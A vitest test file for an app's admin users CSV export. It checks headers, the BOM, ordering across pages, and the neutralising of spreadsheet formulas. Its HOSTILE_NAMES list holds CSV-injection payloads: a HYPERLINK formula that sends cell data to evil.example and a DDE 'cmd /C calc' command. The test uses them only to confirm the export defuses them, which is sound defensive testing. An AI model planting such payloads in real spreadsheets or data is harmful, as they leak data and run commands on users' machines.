import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import { neutraliseFormula, parseCsv } from '../../shared/csv.js';
import { startTestApp, TEST_ADMIN_PASSWORD, type TestApp } from '../test-support/test-app.js';
import { insertAccounts } from '../test-support/insert-accounts.js';
import { registerUser, uniqueEmail, type TestClient } from '../test-support/test-client.js';

let t: TestApp;
let admin: TestClient;
beforeAll(async () => {
  t = await startTestApp();
  admin = t.client();
  expect((await admin.post('/api/admin/verify', { password: TEST_ADMIN_PASSWORD })).status).toBe(200);
});
afterAll(async () => {
  await t.close();
});

/** The export as the browser receives it: raw bytes (fetch's text() would hide the BOM). */
async function downloadCsv(client: TestClient) {
  const cookie = [...client.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
  const response = await fetch(`${t.url}/api/admin/users.csv`, { headers: { cookie } });
  return { response, bytes: Buffer.from(await response.arrayBuffer()) };
}

/** Undoes the export's formula neutralising: what a person typed, as the spreadsheet shows it. */
function typedText(cell: string, original: string): string {
  return neutraliseFormula(original) !== original ? cell.replace(/^'/, '') : cell;
}

const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3 Cleaning',
  '@SUM(A1:A9)',
  'Smith, Jones & "Sons"',
  'Line one\nLine two',
  'Café Zoë – Nettoyage Ærø 清洁',
  "'Already quoted",
];
/** Registration trims names, so these are written straight into the table. */
const LEADING_WHITESPACE_NAMES = ['\t=1+1', '\r=1+1'];

describe('GET /api/admin/users.csv', () => {
  it('exports hostile business names that read back as the text typed, formulas neutralised', async () => {
    t.clock.set(new Date('2026-03-18T12:00:00Z'));
    const names = [...HOSTILE_NAMES, ...LEADING_WHITESPACE_NAMES];
    const registered: { email: string; name: string; id: number }[] = [];
    for (const [index, name] of names.entries()) {
      const email = uniqueEmail(`hostile${index}`);
      const { user } = await registerUser(t.client(), { email, businessName: HOSTILE_NAMES.includes(name) ? name : 'placeholder' });
      // Known, distinct sign-up times: the first name is the newest.
      await t.query(sql`update users set business_name = ${name}, created_at = ${new Date(Date.UTC(2026, 2, 18, 11, 0) - index * 60_000).toISOString()}::timestamptz,
        trial_ends_at = ${new Date(Date.UTC(2026, 3, 1, 11, 0) - index * 60_000).toISOString()}::timestamptz where id = ${user.id}`);
      registered.push({ email, name, id: user.id });
    }
    const subscribed = registered[4]!;
    await t.query(sql`insert into subscriptions (user_id, provider, provider_subscription_id, status, current_period_end)
      values (${subscribed.id}, 'sandbox', 'sub_csv_test', 'active', '2026-04-18T00:00:00Z')`);

    const { response, bytes } = await downloadCsv(admin);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="cleanproof-users-2026-03-18.csv"');
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const text = bytes.toString('utf8');
    expect(text).toContain('\r\n');
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(['Email', 'Business Name', 'Signup Date', 'Trial Ends', 'Status']);
    expect(rows).toHaveLength(registered.length);
    for (const [index, person] of registered.entries()) {
      const row = rows[index]!;
      expect(row[0]).toBe(person.email);
      expect(typedText(row[1]!, person.name)).toBe(person.name);
      expect(row[2]).toBe('2026-03-18');
      expect(row[3]).toBe('2026-04-01');
      expect(row[4]).toBe(person === subscribed ? 'Subscribed' : 'Trial');
    }
    // No cell a spreadsheet would run: each starts with a character that is not a formula trigger.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[0]![1]).toBe(`'${HOSTILE_NAMES[0]}`);
    expect(rows[7]![1]).toBe("'Already quoted"); // not a formula: left as typed
    t.clock.reset();
  });

  it('exports every user exactly once, newest first, across pages and identical sign-up times', async () => {
    // 2,345 users in groups of seven sharing a microsecond-precise sign-up time.
    await insertAccounts(
      t,
      sql`select 'page-' || n || '@example.com' as email, 'x' as password_hash, 'Page ' || n as business_name,
        timestamptz '2025-06-01T00:00:00Z' + (n / 7) * interval '1.234567 seconds' as created_at, timestamptz '2025-06-15T00:00:00Z' as trial_ends_at
      from generate_series(1, 2345) as n`,
    );
    const expected = await t.query<{ email: string }>(sql`select email from users order by created_at desc, id desc`);
    const { response, bytes } = await downloadCsv(admin);
    expect(response.status).toBe(200);
    const [, ...rows] = parseCsv(bytes.toString('utf8'));
    expect(rows.map((row) => row[0])).toEqual(expected.map((row) => row.email));
    expect(new Set(rows.map((row) => row[0])).size).toBe(expected.length);
  });
});
